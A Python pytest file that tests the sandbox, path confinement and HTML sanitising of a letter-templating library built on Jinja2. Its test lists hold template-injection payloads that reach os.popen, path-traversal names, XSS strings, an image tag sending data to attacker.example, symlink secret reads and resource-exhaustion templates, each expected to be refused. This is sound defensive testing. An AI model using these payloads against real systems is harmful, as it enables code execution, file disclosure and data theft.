"""The Environment factory, the lookup rule, and the sandbox around templates."""

from __future__ import annotations

import os
import re
from pathlib import Path

import jinja2
import pytest
from hypothesis import HealthCheck, given, settings

import followup
from followup.locales import resolve_locale
from followup.rendering import MAX_OUTPUT, environment, render
from followup.testing import interviews, locale_codes
from tests.conftest import example_dict, minimal_dict

EN = resolve_locale("en_US")


def write(folder: Path, name: str, source: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(source, encoding="utf-8")
    return path


def render_user(tmp_path: Path, source: str, **context: object) -> str:
    write(tmp_path, "probe.j2", source)
    return render("probe", context, locale=EN, template_dirs=(tmp_path,)).text


class TestEnvironment:
    def test_built_once_per_configuration(self, tmp_path: Path) -> None:
        assert environment() is environment()
        assert environment((tmp_path,)) is environment((tmp_path,))
        assert environment((tmp_path,)) is not environment()

    def test_undefined_is_an_error(self, tmp_path: Path) -> None:
        with pytest.raises(followup.TemplateError, match="missing") as caught:
            render_user(tmp_path, "{% set subject %}s{% endset %}{{ missing }}")
        assert caught.value.name is not None
        assert caught.value.name.endswith("probe.j2")
        assert caught.value.lineno == 1

    def test_subject_is_required(self, tmp_path: Path) -> None:
        with pytest.raises(followup.TemplateError, match="subject"):
            render_user(tmp_path, "body only")

    def test_syntax_error_names_file_and_line(self, tmp_path: Path) -> None:
        with pytest.raises(followup.TemplateError) as caught:
            render_user(tmp_path, "{% set subject %}s{% endset %}\nline two\n{% if %}")
        assert caught.value.lineno == 3
        assert str(caught.value).startswith(str(tmp_path / "probe.j2"))

    def test_unknown_template(self) -> None:
        with pytest.raises(followup.TemplateNotFoundError, match="nope"):
            render("nope", {}, locale=EN)

    def test_a_template_not_found_is_a_lookup_error(self) -> None:
        with pytest.raises(LookupError):
            render("nope", {}, locale=EN)


class TestLookup:
    def test_user_folder_overrides_shipped_template(self, tmp_path: Path) -> None:
        write(
            tmp_path,
            "_letter.j2",
            "{% macro salutation(p, form) %}Yo {{ p.name }}{% endmacro %}"
            "{% macro closing(p, c, form, number=0) %}Bye{% endmacro %}",
        )
        interview = followup.parse(minimal_dict())
        draft = followup.plan(interview, template_dirs=[tmp_path]).drafts[0]
        assert draft.text.startswith("Yo Dana Rivera")
        assert draft.text.endswith("Bye")

    def test_an_enclosure_partial_without_turns_still_drafts(self, tmp_path: Path) -> None:
        """followup's templates pass turn= only to macros that take it: a
        _enclosure.j2 of yours written before it still works."""
        write(
            tmp_path,
            "_enclosure.j2",
            "{% macro insert(gift, form, mentioned=false) %}Slip: {{ gift.about }}{% endmacro %}"
            "{% macro mention(gifts) %}Enclosed: {{ gifts|length }}{% endmacro %}",
        )
        plan = followup.plan(followup.parse(example_dict()), template_dirs=[tmp_path])
        lee = next(d for d in plan.drafts if d.recipient.name == "Lee Chen")
        assert "Enclosed: 1" in lee.text
        assert "Slip: on-call practices" in lee.email_text
        assert lee.enclosures[0].text == "Slip: on-call practices"

    def test_locale_folder_comes_before_the_root(self, tmp_path: Path) -> None:
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}root")
        write(tmp_path, "en_US/probe.j2", "{% set subject %}s{% endset %}american")
        assert render("probe", {}, locale=EN, template_dirs=(tmp_path,)).text == "american"
        british = resolve_locale("en_AU")
        assert render("probe", {}, locale=british, template_dirs=(tmp_path,)).text == "root"

    def test_imports_follow_the_same_chain(self, tmp_path: Path) -> None:
        write(tmp_path, "probe.j2", '{% set subject %}s{% endset %}{% include "part.j2" %}')
        write(tmp_path, "part.j2", "root part")
        write(tmp_path, "en_US/part.j2", "american part")
        assert render("probe", {}, locale=EN, template_dirs=(tmp_path,)).text == "american part"

    @pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "a/../../x.j2"])
    def test_no_paths_outside_the_template_folders(self, tmp_path: Path, name: str) -> None:
        with pytest.raises(followup.TemplateNotFoundError):
            render_user(tmp_path, "{% set subject %}s{% endset %}{% include '" + name + "' %}")


class TestSandbox:
    @pytest.mark.parametrize(
        "source",
        [
            "{{ ''.__class__.__mro__ }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{{ joiner.__init__.__globals__ }}",
            "{{ lipsum.__globals__ }}",
            "{{ namespace.__init__.__globals__ }}",
            "{{ self.__init__.__globals__ }}",
            "{{ '{0.__class__}'.format(1) }}",
            "{{ '{x.__class__}'.format_map({'x': 1}) }}",
            "{{ ''|attr('format') }}",
            "{{ ''.format }}",
            "{% set l = [] %}{{ l.append(1) }}",
            "{{ 'ab' * 10**8 }}",
            "{{ 9**999999999 }}",
            "{{ 'x'|safe }}",
            "{% autoescape false %}x{% endautoescape %}",
            "{% macro r() %}{{ r() }}{% endmacro %}{{ r() }}",
            "{% for i in range(100000) %}{{ 'x' * 100 }}{% endfor %}",
            "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
            "{% for a in s %}{% for b in s %}{% for c in s %}{% endfor %}{% endfor %}{% endfor %}",
            "{% set ns = namespace(x=1000**100) %}{% for i in range(40) %}"
            "{% set ns.x = ns.x * ns.x %}{% endfor %}",
            "{% set ns = namespace(s='x') %}{% for i in range(40) %}"
            "{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
            "{% set ns = namespace(s='x') %}{% for i in range(40) %}"
            "{% set ns.s = ns.s + ns.s %}{% endfor %}",
            "{{ '%99999999d' % 1 }}",
            "{{ '%*d' % (99999999, 1) }}",
            "{{ '%99999999d'|format(1) }}",
            "{{ 'x'|center(99999999) }}",
            "{{ 'x'|indent(99999999) }}",
            "{{ lipsum(20000) }}",
        ],
    )
    def test_hostile_templates_raise(self, tmp_path: Path, source: str) -> None:
        with pytest.raises(followup.TemplateError):
            render_user(tmp_path, "{% set subject %}s{% endset %}" + source, s="x" * 2000)

    def test_ordinary_arithmetic_and_formatting_still_work(self, tmp_path: Path) -> None:
        source = (
            "{% set subject %}s{% endset %}"
            "{{ 6 * 7 }} {{ 2 ** 10 }} {{ 7 % 3 }} {{ 'a' ~ 'b' }} {{ '%05.1f' % 3.14159 }} "
            "{{ 'ab'|center(6) }}|{{ '%s!'|format('hi') }}"
        )
        assert render_user(tmp_path, source) == "42 1024 1 ab 003.1   ab  |hi!"

    def test_concatenation_keeps_html_escaping(self, tmp_path: Path) -> None:
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}{{ a ~ b }}")
        rendered = render("probe", {"a": "<i>", "b": "&"}, locale=EN, template_dirs=(tmp_path,))
        assert rendered.text == "<i>&"
        assert "&lt;i&gt;&amp;" in rendered.html

    def test_cyclic_include(self, tmp_path: Path) -> None:
        write(tmp_path, "loop.j2", '{% include "loop.j2" %}')
        with pytest.raises(followup.TemplateError):
            render_user(tmp_path, '{% set subject %}s{% endset %}{% include "loop.j2" %}')

    def test_output_is_capped(self, tmp_path: Path) -> None:
        source = (
            "{% set subject %}s{% endset %}{% for i in range(30000) %}{{ 'x' * 50 }}{% endfor %}"
        )
        with pytest.raises(followup.TemplateError, match=str(MAX_OUTPUT)):
            render_user(tmp_path, source)

    def test_facts_are_data_not_code(self, tmp_path: Path) -> None:
        text = render_user(tmp_path, "{% set subject %}s{% endset %}{{ fact }}", fact="{{ 7*7 }}")
        assert text == "{{ 7*7 }}"

    def test_html_is_escaped_text_is_not(self, tmp_path: Path) -> None:
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}{{ fact }} {{ link(url) }}")
        context = {"fact": "<b>&", "url": "https://example.org/?a=1&b=2"}
        rendered = render("probe", context, locale=EN, template_dirs=(tmp_path,))
        assert rendered.text == "<b>& https://example.org/?a=1&b=2"
        assert "&lt;b&gt;&amp;" in rendered.html
        assert '<a href="https://example.org/?a=1&amp;b=2">' in rendered.html

    def test_dates_print_in_the_letter_language(self, tmp_path: Path) -> None:
        import datetime as dt

        text = render_user(
            tmp_path, "{% set subject %}s{% endset %}{{ d }}", d=dt.date(2026, 3, 1)
        )
        assert text == "March 1, 2026"

    def test_rendering_outside_render_is_refused(self) -> None:
        template = environment().from_string("{{ gettext('x') }}")
        with pytest.raises(jinja2.TemplateRuntimeError, match="render"):
            template.render()


def test_a_template_that_is_not_utf8_names_its_file(tmp_path: Path) -> None:
    (tmp_path / "probe.j2").write_bytes(b"{% set subject %}s{% endset %}\xff")
    with pytest.raises(followup.TemplateError, match="UTF-8") as caught:
        render("probe", {}, locale=EN, template_dirs=(tmp_path,))
    assert caught.value.name == str(tmp_path / "probe.j2")


class TestConfinement:
    """A template name resolves to a regular .j2 file inside its template folder."""

    @pytest.mark.attack("H3")
    def test_a_link_out_of_the_folder_is_no_template(self, tmp_path: Path) -> None:
        secret = tmp_path / "secret.txt"
        secret.write_text("TOKEN=sk-123", "utf-8")
        folder = tmp_path / "templates"
        folder.mkdir()
        (folder / "secret.j2").symlink_to(secret)
        write(folder, "probe.j2", '{% set subject %}s{% endset %}{% include "secret.j2" %}')
        with pytest.raises(followup.TemplateNotFoundError):
            render("probe", {}, locale=EN, template_dirs=(folder,))

    @pytest.mark.attack("H3")
    def test_a_locale_folder_linked_elsewhere_is_not_searched(self, tmp_path: Path) -> None:
        outside = tmp_path / "outside"
        outside.mkdir()
        (outside / "leak.j2").write_text("LEAK", "utf-8")
        folder = tmp_path / "templates"
        folder.mkdir()
        (folder / "en_US").symlink_to(outside, target_is_directory=True)
        write(folder, "probe.j2", '{% set subject %}s{% endset %}{% include "leak.j2" %}')
        with pytest.raises(followup.TemplateNotFoundError):
            render("probe", {}, locale=EN, template_dirs=(folder,))

    def test_a_link_inside_the_folder_still_works(self, tmp_path: Path) -> None:
        folder = tmp_path / "templates"
        folder.mkdir()
        write(folder, "real.j2", "inside")
        (folder / "alias.j2").symlink_to(folder / "real.j2")
        write(folder, "probe.j2", '{% set subject %}s{% endset %}{% include "alias.j2" %}')
        assert render("probe", {}, locale=EN, template_dirs=(folder,)).text == "inside"

    @pytest.mark.parametrize("name", ["__init__.py", "thank_you.j2@5", "locale/followup.pot"])
    def test_only_j2_templates_by_their_own_name(self, tmp_path: Path, name: str) -> None:
        write(tmp_path, "probe.j2", f'{{% set subject %}}s{{% endset %}}{{% include "{name}" %}}')
        with pytest.raises(followup.TemplateNotFoundError):
            render("probe", {}, locale=EN, template_dirs=(tmp_path,))

    def test_a_caret_import_with_nothing_further_along_says_so(self, tmp_path: Path) -> None:
        write(tmp_path, "probe.j2", '{% set subject %}s{% endset %}{% import "^nope.j2" as x %}')
        with pytest.raises(followup.TemplateNotFoundError, match="further along") as caught:
            render("probe", {}, locale=EN, template_dirs=(tmp_path,))
        assert "@" not in str(caught.value)


def test_a_macro_missing_from_an_imported_template_names_that_template(
    tmp_path: Path,
) -> None:
    """A regional template imports the next one along; what it lacks is its own fault."""
    write(
        tmp_path / "es_419", "_letter.j2", "{% macro salutation(person, form) %}Hola{% endmacro %}"
    )
    data = minimal_dict(locale="es_AR")
    with pytest.raises(followup.TemplateError, match="has no macro") as caught:
        followup.plan(followup.parse(data), template_dirs=[tmp_path])
    assert str(tmp_path / "es_419" / "_letter.j2") in str(caught.value)


class TestEscaped:
    """No callable available to templates turns a fact into markup; no control
    character reaches any output."""

    EVIL = "<img src=x onerror=alert(1)>"

    def _html(self, tmp_path: Path, body: str) -> str:
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}" + body)
        return render("probe", {"company": self.EVIL}, locale=EN, template_dirs=(tmp_path,)).html

    @pytest.mark.attack("M1")
    @pytest.mark.parametrize(
        "body",
        [
            "{{ _(company) }}",
            "{{ pgettext('c', company) }}",
            "{{ ngettext(company, company, 1) }}",
            "{{ ('x\\ny'|e)|indent(company) }}",
        ],
    )
    def test_a_fact_through_gettext_or_indent_is_escaped(self, tmp_path: Path, body: str) -> None:
        html = self._html(tmp_path, body)
        assert "<img" not in html
        assert "&lt;img" in html

    @pytest.mark.parametrize(
        "url", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd"]
    )
    def test_link_takes_web_and_mail_addresses_only(self, tmp_path: Path, url: str) -> None:
        write(tmp_path, "probe.j2", f"{{% set subject %}}s{{% endset %}}{{{{ link({url!r}) }}}}")
        with pytest.raises(followup.TemplateError, match="http, https or mailto"):
            render("probe", {}, locale=EN, template_dirs=(tmp_path,))

    def test_link_takes_no_user_name_before_the_host(self, tmp_path: Path) -> None:
        """ "https://bank.example@evil.example" goes to evil.example: refused, as the
        facts refuse it in a gift's address."""
        url = "https://careers.northwind.example@evil.example/apply"
        write(tmp_path, "probe.j2", f"{{% set subject %}}s{{% endset %}}{{{{ link({url!r}) }}}}")
        with pytest.raises(followup.TemplateError, match="without a user name"):
            render("probe", {}, locale=EN, template_dirs=(tmp_path,))
        write(tmp_path, "probe.j2", f'{{% set subject %}}s{{% endset %}}<a href="{url}">x</a>')
        with pytest.raises(followup.TemplateError, match="not a web or mail address"):
            render("probe", {}, locale=EN, template_dirs=(tmp_path,))
        ok = "https://example.org/?from=me@example.org"
        write(tmp_path, "probe.j2", f"{{% set subject %}}s{{% endset %}}{{{{ link({ok!r}) }}}}")
        assert render("probe", {}, locale=EN, template_dirs=(tmp_path,)).text == ok

    @pytest.mark.parametrize("body", ["{{ '' ~ gettext }}", "{{ 'x' ~ [1, 2] }}"])
    def test_joining_prints_no_repr(self, tmp_path: Path, body: str) -> None:
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}" + body)
        with pytest.raises(followup.TemplateError, match="cannot join"):
            render("probe", {}, locale=EN, template_dirs=(tmp_path,))

    @pytest.mark.parametrize(
        "body",
        [
            "{{ [gettext]|join }}",
            "{{ cycler|string }}",
            "{{ '%s' % (link,) }}",
            "{{ '%s'|format(cycler) }}",
            "{{ '{}'.format(link) }}",
            "{{ '{0}'.format_map({'0': link}) }}",
            "{{ ''.upper|e }}",
            "{{ [{'a': link}]|map(attribute='a')|join }}",
            "{{ dict(a=link).values()|join }}",
            "{{ _('%(a)s', a=link) }}",
            "{% set n = namespace(a=1) %}{{ n|string }}",
            "{% for i in [1] %}{{ loop|string }}{% endfor %}",
        ],
    )
    def test_no_way_to_text_prints_a_repr(self, tmp_path: Path, body: str) -> None:
        """SECURITY.md item 5: a function or template object never becomes text."""
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}" + body)
        with pytest.raises(followup.TemplateError, match=r"cannot use .* as text"):
            render("probe", {}, locale=EN, template_dirs=(tmp_path,))

    @pytest.mark.parametrize(
        ("body", "text"),
        [
            ("{{ [3, 1]|reverse|join(', ') }}", "1, 3"),
            ("{{ ['a', 'b']|map('upper')|join }}", "AB"),
            ("{{ {'a': 1}.values()|join }}", "1"),
            ("{{ '%s and %s' % ('a', 2) }}", "a and 2"),
            ("{{ '{}'.format(company) }}", EVIL),
        ],
    )
    def test_plain_values_still_become_text(self, tmp_path: Path, body: str, text: str) -> None:
        assert self._text(tmp_path, body) == text

    def _text(self, tmp_path: Path, body: str) -> str:
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}" + body)
        return render("probe", {"company": self.EVIL}, locale=EN, template_dirs=(tmp_path,)).text

    def test_the_subject_is_text(self, tmp_path: Path) -> None:
        write(tmp_path, "probe.j2", "{% set subject = [1, 2] %}x")
        with pytest.raises(followup.TemplateError, match="subject to a value of type list"):
            render("probe", {}, locale=EN, template_dirs=(tmp_path,))

    @pytest.mark.parametrize("name", ["pprint", "random", "urlize", "xmlattr"])
    def test_filters_a_letter_never_needs_are_gone(self, tmp_path: Path, name: str) -> None:
        write(tmp_path, "probe.j2", f"{{% set subject %}}s{{% endset %}}{{{{ company|{name} }}}}")
        with pytest.raises(followup.TemplateError, match=name):
            render("probe", {"company": "x"}, locale=EN, template_dirs=(tmp_path,))

    @pytest.mark.attack("M4")
    @pytest.mark.parametrize("char", ["\x1b", "\x07", "\x00", "\u2028", "\x9b"])
    def test_a_control_character_from_a_template_is_an_error(
        self, tmp_path: Path, char: str
    ) -> None:
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}x{{ c }}y")
        with pytest.raises(followup.TemplateError, match=f"U\\+{ord(char):04X}"):
            render("probe", {"c": char}, locale=EN, template_dirs=(tmp_path,))


class TestTheirMarkup:
    """A template from someone else writes only the HTML a letter needs."""

    @pytest.mark.parametrize(
        ("body", "says"),
        [
            ("<script>alert(1)</script>", "element <script>"),
            ('<img src="https://attacker.example/?at={{ company|urlencode }}">', "element <img>"),
            ('<p onclick="x()">Hi</p>', "attribute 'onclick'"),
            ('<p style="background:url(https://e.example)">Hi</p>', "attribute 'style'"),
            ('<a href="javascript:alert(1)">x</a>', "not a web or mail address"),
            ("<!-- x -->", "comment"),
            ("<p>Hi</p><img src=x", "element <img>"),
            # followup turns a line break into <br>, which ends a tag early in a browser:
            # what the check reads is what followup sends
            ('<span lang="en"\ndir="<img src=x onerror=alert(1)>">x</span>', "attribute '<br'"),
            ("<span lang='en'\n\ndir='<meta http-equiv=refresh>'>x</span>", "attribute '<'"),
            ("<span\nlang=en>x</span\n>", "element <span<br>"),
            ('<span dir="<img src=x>">x</span>', "gives dir the value"),
            ("<svg><a href='https://e.example'>x</a></svg>", "element <svg>"),
            # a reference stands for the character it names: none a draft may not hold
            ("&#x1b;]0;title&#x07;", "&#x1b; to a control or invisible character"),
            ("&#x202e;fdp.exe", "&#x202e; to a control or invisible character"),
            ("&#xd800;", "&#xd800; to a control or invisible character"),
            ("&#8206;", "&#8206; to a control or invisible character"),
            # an element left open runs on past the draft (into a printed page's next
            # section); one closed too many closes followup's own wrapper
            ('<a href="https://e.example/track"><b>x', "closes </p> where </b> closes"),
            ("x</div>", "closes </div> where </p> closes"),
            ("<b><i>x</b></i>", "closes </b> where </i> closes"),
        ],
    )
    def test_anything_but_a_letters_elements_is_refused(
        self, tmp_path: Path, body: str, says: str
    ) -> None:
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}" + body)
        with pytest.raises(followup.TemplateError, match=re.escape(says)):
            render("probe", {"company": "Acme"}, locale=EN, template_dirs=(tmp_path,))

    def test_what_is_sent_is_what_was_checked(self, tmp_path: Path) -> None:
        body = "<p lang=de>Gr&uuml;&#223;e &amp; <a href='https://example.org/?a=1&b=2'>x</a></p>"
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}" + body)
        html = render("probe", {}, locale=EN, template_dirs=(tmp_path,)).html
        assert '<p lang="de">Gr&uuml;ße &amp; <a href="https://example.org/?a=1&amp;b=2">' in html

    def test_a_letters_elements_pass(self, tmp_path: Path) -> None:
        body = (
            '<div lang="en" dir="ltr"><p>Dear <strong>Dana</strong>,<br>'
            '<a href="https://example.org/?a=1&amp;b=2">a link</a> and 1 &lt; 2.</p>'
            "<ul><li>one</li></ul></div>"
        )
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}" + body)
        html = render("probe", {}, locale=EN, template_dirs=(tmp_path,)).html
        assert "<strong>Dana</strong>" in html

    @pytest.mark.parametrize("char", ["\u202e", "\u2066", "\ufeff", "\u200b", "\u00ad"])
    def test_no_invisible_formatting_character_from_a_template(
        self, tmp_path: Path, char: str
    ) -> None:
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}x{{ c }}y")
        with pytest.raises(followup.TemplateError, match=f"U\\+{ord(char):04X}"):
            render("probe", {"c": char}, locale=EN, template_dirs=(tmp_path,))

    def test_the_joiners_scripts_need_pass(self, tmp_path: Path) -> None:
        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}{{ c }}")
        text = render("probe", {"c": "a\u200cb\u200dc"}, locale=EN, template_dirs=(tmp_path,))
        assert text.text == "a\u200cb\u200dc"

    def test_a_subject_is_one_line_of_sensible_length(self, tmp_path: Path) -> None:
        write(tmp_path, "probe.j2", "{% set subject %}{{ 'a' * 401 }}{% endset %}x")
        with pytest.raises(followup.TemplateError, match="at most 400"):
            render("probe", {}, locale=EN, template_dirs=(tmp_path,))

    def test_a_hard_linked_template_is_refused(self, tmp_path: Path) -> None:
        secret = tmp_path / "secret.txt"
        secret.write_text("TOKEN=sk-123", encoding="utf-8")
        folder = tmp_path / "templates"
        folder.mkdir()
        os.link(secret, folder / "sig.j2")
        write(folder, "probe.j2", '{% set subject %}s{% endset %}{% include "sig.j2" %}')
        with pytest.raises(followup.TemplateError, match="hard link"):
            render("probe", {}, locale=EN, template_dirs=(folder,))

    def test_followups_own_names_cannot_be_shadowed(self, tmp_path: Path) -> None:
        write(
            tmp_path, "probe.j2", "{% set subject %}s{% endset %}{% set __followup_stepped = 1 %}"
        )
        with pytest.raises(followup.TemplateError, match="may not use the name"):
            render("probe", {}, locale=EN, template_dirs=(tmp_path,))


def test_every_format_character_but_the_joiners_is_unshown() -> None:
    """The list in followup._text is written out by hand; Unicode has it all."""
    import sys
    import unicodedata

    from followup._text import UNSHOWN

    for code in range(sys.maxunicode + 1):
        char = chr(code)
        category = unicodedata.category(char)
        expected = (category in ("Cc",) and char not in "\n\t") or (
            category in ("Cf", "Zl", "Zp", "Cs") and char not in "\u200c\u200d"
        )
        matched = UNSHOWN.match(char) is not None
        # Newer Unicode versions may assign more format characters: the list has them.
        assert matched == expected or (matched and category == "Cn"), f"U+{code:04X} {category}"


_FIRST_PLAN = """
import jinja2, followup
compiled = []
real = jinja2.Environment.compile
def compile(self, source, name=None, *args, **kwargs):
    compiled.append(name)
    return real(self, source, name, *args, **kwargs)
jinja2.Environment.compile = compile
followup.plan(followup.load(%r))
print(len(compiled))
"""


def _compiled_in_a_fresh_process(cache: str) -> int:
    import subprocess
    import sys

    from tests.conftest import EXAMPLE, ROOT

    done = subprocess.run(
        [sys.executable, "-c", _FIRST_PLAN % str(EXAMPLE)],
        capture_output=True,
        text=True,
        check=True,
        cwd=ROOT,
        env={**os.environ, "FOLLOWUP_CACHE_DIR": cache, "PYTHONPATH": str(ROOT / "src")},
    )
    return int(done.stdout)


def test_the_shipped_templates_compile_once_per_user(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    assert _compiled_in_a_fresh_process(str(cache)) > 0
    assert _compiled_in_a_fresh_process(str(cache)) == 0
    assert _compiled_in_a_fresh_process("") > 0  # no cache asked for


def test_a_damaged_compiled_template_is_compiled_again(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    first = _compiled_in_a_fresh_process(str(cache))
    kept = [p for folder in cache.glob("templates-*") for p in folder.iterdir()]
    assert len(kept) == first
    for damaged, content in zip(kept, (b"", b"j2\x00 not bytecode"), strict=False):
        damaged.write_bytes(content)
    assert _compiled_in_a_fresh_process(str(cache)) == min(2, first)


def test_an_unusable_cache_folder_only_costs_time(tmp_path: Path) -> None:
    blocked = tmp_path / "file"
    blocked.write_text("not a folder", encoding="utf-8")
    assert _compiled_in_a_fresh_process(str(blocked / "cache")) > 0


_FIRST_PLAN_WITH_TEMPLATES = """
import jinja2, followup
from followup.rendering import bounded
bounded.isolated = lambda: False  # drafted in this process, where compiling is seen
compiled = []
real = jinja2.Environment.compile
def compile(self, source, name=None, filename=None, *args, **kwargs):
    compiled.append(filename)
    return real(self, source, name, filename, *args, **kwargs)
jinja2.Environment.compile = compile
followup.plan(followup.load(%r), template_dirs=[%r])
print("\\n".join(compiled))
"""


def test_with_your_templates_the_shipped_ones_still_compile_once_per_user(
    tmp_path: Path,
) -> None:
    import subprocess
    import sys

    from tests.conftest import EXAMPLE, ROOT

    mine = tmp_path / "mine"
    mine.mkdir()
    write(mine, "thank_you.j2", "{% set subject %}Thanks{% endset %}Dear {{ company }}")
    cache = tmp_path / "cache"

    def compiled() -> list[str]:
        done = subprocess.run(
            [sys.executable, "-c", _FIRST_PLAN_WITH_TEMPLATES % (str(EXAMPLE), str(mine))],
            capture_output=True,
            text=True,
            check=True,
            cwd=ROOT,
            env={**os.environ, "FOLLOWUP_CACHE_DIR": str(cache), "PYTHONPATH": str(ROOT / "src")},
        )
        return done.stdout.split()

    mine_compiled = str(mine / "thank_you.j2")
    first = compiled()
    assert mine_compiled in first
    assert len(set(first)) > 1  # the shipped templates the plan uses
    # A new process loads the shipped templates compiled; yours it compiles again.
    assert set(compiled()) == {mine_compiled}
    # Your templates are never written down: no compiled file names them.
    kept = [p.read_bytes() for p in cache.glob("sandboxed-templates-*/*")]
    assert kept
    assert not any(mine_compiled.encode() in data for data in kept)
    assert any(b"check_in.j2" in data for data in kept)


def test_a_cache_folder_that_cannot_be_written_only_costs_time(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A folder that is read-only, full or gone: the plan is drafted all the same."""
    import importlib

    import followup
    from tests.conftest import EXAMPLE

    environment_module = importlib.import_module("followup.rendering.environment")

    gone = tmp_path / "gone"  # every compiled template written there fails
    monkeypatch.setattr(environment_module._cache, "folder", lambda kind: gone)
    environment_module.environment.cache_clear()
    try:
        plan = followup.plan(followup.load(EXAMPLE))
    finally:
        environment_module.environment.cache_clear()
    assert plan.drafts
    assert not gone.exists()


def test_a_file_of_yours_swapped_for_a_link_to_a_shipped_one_is_never_kept(
    tmp_path: Path,
) -> None:
    """Whether a template is shipped is judged by where it was read, not by where a link
    leads once it has been: a file of yours swapped for a link after it was read is
    yours, and is not written to the cache."""
    from followup.rendering.environment import _SHIPPED, _ShippedCompiled, environment

    shipped = Path(str(_SHIPPED)) / "thank_you.j2"
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thank_you.j2").symlink_to(shipped)
    cache = _ShippedCompiled(str(tmp_path / "cache"))
    env = environment((mine,))
    source = "{% set subject %}Mine{% endset %}Mine"
    assert (
        cache.get_bucket(env, "html::thank_you.j2", str(mine / "thank_you.j2"), source).key == ""
    )
    assert cache.get_bucket(env, "html::thank_you.j2", str(shipped), source).key != ""


def test_a_folder_swapped_for_a_link_after_lookup_is_not_read(tmp_path: Path) -> None:
    """The check-then-open race: the file is opened folder by folder without links."""
    from followup.rendering.environment import _open_inside

    folder = tmp_path / "templates"
    (folder / "sub").mkdir(parents=True)
    write(folder / "sub", "part.j2", "inside")
    real = (folder / "sub" / "part.j2").resolve()
    descriptor = _open_inside(real, [folder])
    os.close(descriptor)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "part.j2").write_text("SECRET", encoding="utf-8")
    (folder / "sub" / "part.j2").unlink()
    (folder / "sub").rmdir()
    (folder / "sub").symlink_to(outside, target_is_directory=True)
    with pytest.raises((NotADirectoryError, OSError), match=r"Not a directory|symbolic link"):
        _open_inside(real, [folder])


def test_a_template_may_begin_with_a_byte_order_mark(tmp_path: Path) -> None:
    (tmp_path / "probe.j2").write_bytes("\ufeff{% set subject %}s{% endset %}Hi".encode())
    assert render("probe", {}, locale=EN, template_dirs=(tmp_path,)).text == "Hi"


def test_a_huge_template_name_in_an_error_is_cut(tmp_path: Path) -> None:
    write(
        tmp_path, "probe.j2", "{% set subject %}s{% endset %}{% include ('a' * 100000) ~ '.j2' %}"
    )
    with pytest.raises(followup.TemplateError) as caught:
        render("probe", {}, locale=EN, template_dirs=(tmp_path,))
    assert len(str(caught.value)) < 2000


def test_a_lone_surrogate_from_a_template_is_an_error(tmp_path: Path) -> None:
    write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}x{{ c }}")
    with pytest.raises(followup.TemplateError, match="U\\+D800"):
        render("probe", {"c": "\ud800"}, locale=EN, template_dirs=(tmp_path,))


def test_only_a_configuration_with_user_templates_is_sandboxed(tmp_path: Path) -> None:
    """followup's own templates are trusted and render without the sandbox's
    accounting; with a user's folder on the path, every template is sandboxed."""
    from followup.rendering.sandbox import Sandbox

    assert not isinstance(environment(), Sandbox)
    assert isinstance(environment((tmp_path,)), Sandbox)
    assert set(environment().filters) == set(environment((tmp_path,)).filters)
    assert set(environment().globals) <= set(environment((tmp_path,)).globals)


# --- one render for text and HTML -----------------------------------------------------------


def _both_ways(interview: followup.Interview, monkeypatch: pytest.MonkeyPatch) -> list[tuple]:
    """The plan's outputs drafted with the text read off the HTML, then rendered apart."""
    from followup.rendering import renderer

    outputs = []
    for single in (True, False):
        monkeypatch.setattr(renderer, "SINGLE_PASS", single)
        plan = followup.plan(interview, today=interview.date)
        outputs.append(
            [
                (d.subject, d.text, d.html, d.email_text, d.email_html, d.enclosures)
                for d in plan.drafts
            ]
        )
    return outputs


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    interview=interviews(max_interviewers=3, max_items=3, locales=locale_codes(shipped_only=True))
)
def test_text_read_off_the_html_is_the_text_rendered(
    interview: followup.Interview, monkeypatch: pytest.MonkeyPatch
) -> None:
    single, separate = _both_ways(interview, monkeypatch)
    assert single == separate


@pytest.mark.parametrize(
    "fact",
    ["Tom & Jerry <b>bold</b>", "R&D; &copy &amp; \"quoted\" 'single'", 'a <a href="x">y</a>'],
)
def test_markup_in_facts_reads_back_as_written(fact: str, monkeypatch: pytest.MonkeyPatch) -> None:
    data = minimal_dict()
    data["company"] = fact
    data["topics"] = [{"subject": fact}]
    single, separate = _both_ways(followup.parse(data), monkeypatch)
    assert single == separate
    assert any(fact in text for draft in single for text in draft[:2])


def test_markup_it_cannot_read_is_rendered_as_text_too() -> None:
    from followup.rendering.renderer import _plain

    assert _plain("a &amp; b") == "a & b"
    assert _plain('<a href="mailto:x@y.org">mailto:x@y.org</a>') == "mailto:x@y.org"
    for unreadable in ("<p>x</p>", "x & y", "&nbsp;", '<a href="x" class="y">z</a>'):
        assert _plain(unreadable) is None


def test_output_the_text_cannot_be_read_off_is_rendered_as_text(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from followup.rendering import renderer

    interview = followup.parse(minimal_dict())
    read_off = followup.plan(interview, today=interview.date).drafts
    monkeypatch.setattr(renderer, "_plain", lambda markup: None)
    rendered = followup.plan(interview, today=interview.date).drafts
    assert [(d.subject, d.text, d.html) for d in rendered] == [
        (d.subject, d.text, d.html) for d in read_off
    ]


